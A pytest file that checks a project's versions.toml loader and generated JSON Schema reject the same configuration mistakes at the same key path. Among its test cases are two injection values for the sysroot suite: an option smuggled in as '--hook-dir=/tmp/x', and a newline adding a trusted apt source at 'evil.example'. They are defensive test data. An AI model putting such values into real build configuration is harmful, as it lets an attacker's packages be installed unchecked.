"""versions.toml declared once (config/keys.py): the loader reads through the declaration, and the JSON Schema
generated from it is committed, current, and what editors' checkers (taplo, check-jsonschema) use: they accept the
repository's file and refuse a mistake at the location the loader names."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path

import jsonschema as jsonschema_lib  # type: ignore[import-untyped]
import pytest
import tomllib

from crosslane import config
from crosslane.config import jsonschema
from crosslane.config.document import declaration
from crosslane.config.keys import REQUIRED, Key, Section
from crosslane.config.reader import Table
from crosslane.errors import ConfigError
from crosslane.registry import SMOKES

REPO = Path(__file__).resolve().parents[2]
TEXT = (REPO / "versions.toml").read_text()
SCHEMA = jsonschema.SCHEMA_PATH

# (what is changed in the repository's file, the key path the loader names)
MISTAKES = [
    pytest.param('smoke = { kind = "canary", timeout = 60 }', 'smok = { kind = "canary", timeout = 60 }',
                 "components.canary.smok", id="mistyped-key"),
    pytest.param('[toolchains.clang]\nfamily = "clang"', '[toolchains.clang]\nfamily = "clnag"',
                 "toolchains.clang.family", id="mistyped-value"),
    pytest.param('smoke = { kind = "canary", timeout = 60 }', 'smoke = { kind = "canary", timeout = "60" }',
                 "components.canary.smoke.timeout", id="wrong-type"),
    pytest.param('source = { kind = "tree", path = "components/canary" }',
                 'source = { kind = "tree", path = "components/canary", commit = "' + "0" * 40 + '" }',
                 "components.canary.source.commit", id="key-of-another-kind"),
    pytest.param('suite = "forky"', 'suite = "--hook-dir=/tmp/x"', "sysroot.suite", id="suite-as-option"),
    pytest.param('suite = "forky"', 'suite = "forky main\\ndeb [trusted=yes] http://evil.example/ x"',
                 "sysroot.suite", id="suite-with-a-line"),
    pytest.param('keyring = "/usr/share', 'keyring = "usr/share', "sysroot.keyring", id="relative-keyring"),
    pytest.param("schema = 1", "schema = 2", "schema", id="schema-version"),
    pytest.param('recipe = "cmake"', 'recipe = "make"', "components.canary.recipe", id="unknown-recipe"),
    pytest.param('[components.cpuinfo.tests]\nkind = "ctest"', '[components.cpuinfo.tests]\nkind = "ctst"',
                 "components.cpuinfo.tests.kind", id="unknown-suite-kind"),
    pytest.param('precision = "fp32"', 'precision = "fp16"', "models.smollm2.precision", id="precision"),
    pytest.param('portable = ["novector"] }', 'portable = ["novector"], cuda = ["rvv128"] }',
                 "cases.riscv-ci.profiles.cuda", id="unknown-backend-profiles"),
    pytest.param('exclude = [{ backend = "portable", quantize = true }',
                 'exclude = [{ backend = "portable", quantize = "yes" }', "cases.riscv-ci.exclude[0].quantize",
                 id="exclusion-type"),
    pytest.param('arches = ["amd64", "arm64", "riscv64"]\nrecipe = "cmake"', 'arches = ["amd64", 64, "riscv64"]\n'
                 'recipe = "cmake"', "components.canary.arches[1]", id="array-item-type"),
]


def mistaken(old: str, new: str) -> str:
    assert TEXT.count(old) >= 1, old
    return TEXT.replace(old, new, 1)


def loader_location(text: str) -> str:
    with pytest.raises(ConfigError) as caught:
        config.parse(text, REPO / "versions.toml")
    match = re.match(r"versions\.toml: ([^:]+): ", caught.value.message)
    assert match, caught.value.message
    return match.group(1)


def schema_locations(text: str) -> set[str]:
    """Each error of the JSON Schema as a key path; an unexpected key is named after its table, as the loader does."""
    validator = jsonschema_lib.Draft7Validator(jsonschema.schema(SMOKES))
    found = set()
    for error in validator.iter_errors(tomllib.loads(text)):
        for leaf in [error, *error.context]:
            path = "".join(f"[{part}]" if isinstance(part, int) else f".{part}" for part in leaf.absolute_path)
            path = path.removeprefix(".")  # an array's item as the loader names it: exclude[0]
            names = re.findall(r"'([^']+)' (?:was|were) unexpected", leaf.message)
            if "propertyNames" in leaf.relative_schema_path and isinstance(leaf.instance, str):
                names.append(leaf.instance)  # a key this table's kind does not have
            found |= {f"{path}.{name}" if path else name for name in names} or {path}
    return found


def test_the_committed_schema_is_the_declarations_and_a_stale_one_is_named(tmp_path: Path) -> None:
    assert jsonschema.stale(REPO) is None
    (tmp_path / SCHEMA).parent.mkdir(parents=True)
    (tmp_path / SCHEMA).write_text((REPO / SCHEMA).read_text().replace('"trixie"', '"bookworm"'))
    assert "run invoke schema --write" in (jsonschema.stale(tmp_path) or "")
    written = jsonschema.write(tmp_path)
    assert written.read_text() == (REPO / SCHEMA).read_text() and jsonschema.stale(tmp_path) is None


def test_versions_toml_names_its_schema_for_editors() -> None:
    assert TEXT.splitlines()[0] == f"#:schema ./{SCHEMA}"


def test_the_schema_accepts_the_repository_file() -> None:
    jsonschema_lib.Draft7Validator.check_schema(jsonschema.schema(SMOKES))
    assert schema_locations(TEXT) == set()


@pytest.mark.parametrize(("old", "new", "where"), MISTAKES)
def test_a_mistake_is_refused_by_the_schema_where_the_loader_names_it(old: str, new: str, where: str) -> None:
    text = mistaken(old, new)
    assert loader_location(text) == where
    assert where in schema_locations(text)


def test_a_key_of_another_source_kind_is_not_suggested_as_itself() -> None:
    """A tree source's `commit` is unknown to a tree: the suggestion comes from a tree's keys, never 'commit'."""
    text = mistaken('source = { kind = "tree", path = "components/canary" }',
                    'source = { kind = "tree", path = "components/canary", commit = "' + "0" * 40 + '" }')
    with pytest.raises(ConfigError) as caught:
        config.parse(text, REPO / "versions.toml")
    assert "components.canary.source.commit: unknown key" in caught.value.message
    assert "did you mean 'commit'" not in caught.value.message


@pytest.mark.spawns
@pytest.mark.parametrize(("old", "new", "where"), MISTAKES[:2])
def test_taplo_and_check_jsonschema_refuse_the_mistake(tmp_path: Path, old: str, new: str, where: str) -> None:
    """The real checkers editors and CI use, on the file as a user would have it (its #:schema line)."""
    repo = tmp_path / "repo"
    (repo / SCHEMA).parent.mkdir(parents=True)
    shutil.copy(REPO / SCHEMA, repo / SCHEMA)
    bin_dir = Path(sys.executable).parent
    (repo / "versions.toml").write_text(TEXT)
    taplo = [str(bin_dir / "taplo"), "check", "versions.toml"]
    checker = [str(bin_dir / "check-jsonschema"), "--schemafile", str(repo / SCHEMA), "versions.toml"]
    for argv in (taplo, checker):
        good = subprocess.run(argv, cwd=repo, capture_output=True, text=True, timeout=120)
        assert good.returncode == 0, good.stdout + good.stderr
    (repo / "versions.toml").write_text(mistaken(old, new))
    leaf = where.rsplit(".", 1)[-1]
    for argv in (taplo, checker):
        bad = subprocess.run(argv, cwd=repo, capture_output=True, text=True, timeout=120)
        assert bad.returncode != 0 and (leaf in bad.stdout + bad.stderr or "clnag" in bad.stdout + bad.stderr), \
            bad.stdout + bad.stderr


def test_reading_a_key_the_declaration_lacks_is_a_bug_not_a_user_error() -> None:
    table = Table({"suite": "forky"}, "versions.toml", "sysroot", Section({"suite": Key("string", "the suite")}))
    assert table.string("suite") == "forky"
    with pytest.raises(AssertionError, match=r"sysroot\.mirror is read but not declared"):
        table.string("mirror")
    with pytest.raises(AssertionError, match="read as integer"):
        table.integer("suite")


def test_defaults_requiredness_and_values_come_from_the_declaration() -> None:
    section = Section({"kind": Key("string", "", REQUIRED, choices=("a", "b"), what="thing kind"),
                       "timeout": Key("number", "", 120.0, minimum=0, maximum=10, above=True),
                       "tags": Key("array", "", ("x",), items=Key("string", ""))})
    assert Table({"kind": "a"}, "f", "t", section).number("timeout") == 120.0
    assert Table({"kind": "a"}, "f", "t", section).strings("tags") == ("x",)
    with pytest.raises(ConfigError, match="f: t: missing required key 'kind'"):
        Table({}, "f", "t", section).string("kind")
    with pytest.raises(ConfigError, match=r"t\.kind: unknown thing kind .c."):
        Table({"kind": "c"}, "f", "t", section).string("kind")
    with pytest.raises(ConfigError, match=r"t\.timeout: 0 is not between 0 and 10"):
        Table({"timeout": 0}, "f", "t", section).number("timeout")


def walk(section: Section, path: str = "") -> list[tuple[str, Key]]:
    found = []
    for name, key in [*section.keys.items(), *([("<name>", section.names)] if section.names else [])]:
        found.append((f"{path}.{name}".lstrip("."), key))
        for form in (key, *key.also):
            if form.section is not None:
                found += walk(form.section, f"{path}.{name}")
            if form.items is not None and form.items.section is not None:
                found += walk(form.items.section, f"{path}.{name}[]")
    return found


def test_every_key_says_what_it_is_for() -> None:
    """The schema is what an editor shows on hover: a key without words is a key nobody can use."""
    undocumented = [path for path, key in walk(declaration(SMOKES))
                    if not key.doc and not path.endswith("<name>") and not path.endswith("[]")]
    assert undocumented == []


def test_a_plug_in_kind_may_reuse_an_option_name_with_another_type(tmp_path: Path) -> None:
    """A plug-in smoke kind declaring `compare` as a number (crosslane's command kind: a string) loads, and the schema
    generated with it accepts the file and still refuses the command kind's wrong key."""
    from crosslane.config.model import Registries
    from crosslane.registry import Entry, Option

    plugin = Entry("plugin.smoke:run", options={"compare": Option("number", doc="a plug-in's threshold")})
    registries = Registries(smokes=SMOKES.with_entry("plugged", plugin))
    text = mistaken('smoke = { kind = "canary", timeout = 60 }', 'smoke = { kind = "plugged", compare = 0.5 }')
    parsed = config.parse(text, REPO / "versions.toml", registries=registries)
    assert parsed.components["canary"].smoke is not None
    assert parsed.components["canary"].smoke.options["compare"] == 0.5
    validator = jsonschema_lib.Draft7Validator(jsonschema.schema(registries.smokes))
    assert list(validator.iter_errors(tomllib.loads(text))) == []
    assert jsonschema.stale(REPO, registries.smokes) is not None  # the committed one is crosslane's own kinds'


def test_the_suite_timeout_says_what_the_suites_do_with_it() -> None:
    """tests.timeout is per test (ctest's and pytest-timeout's --timeout), scaled as a smoke's, and a whole run has
    its own limit: the words editors show are the numbers the suites use."""
    from crosslane.config.component_model import SuiteSpec
    from crosslane.config.declare import section_of
    from crosslane.config.model import Registries
    from crosslane.smokes import payload
    from crosslane.suites import ctest, pytest_suite

    doc = section_of(SuiteSpec, Registries(), doc="").keys["timeout"].doc
    assert doc.startswith("seconds per test") and "whole suite" not in doc
    assert f"x{payload.FOREIGN_ISA:g} on a foreign ISA" in doc and f"VLEN/{payload.VLEN_UNIT}" in doc
    assert f"{ctest.RUN_TIMEOUTS} times the scaled value (at least {ctest.RUN_FLOOR:.0f} s)" in doc
    assert f"a whole pytest run at {pytest_suite.SUITE_LIMIT:.0f} s" in doc
    assert ctest.run_limit(10.0) == ctest.RUN_FLOOR and ctest.run_limit(100.0) == 100.0 * ctest.RUN_TIMEOUTS
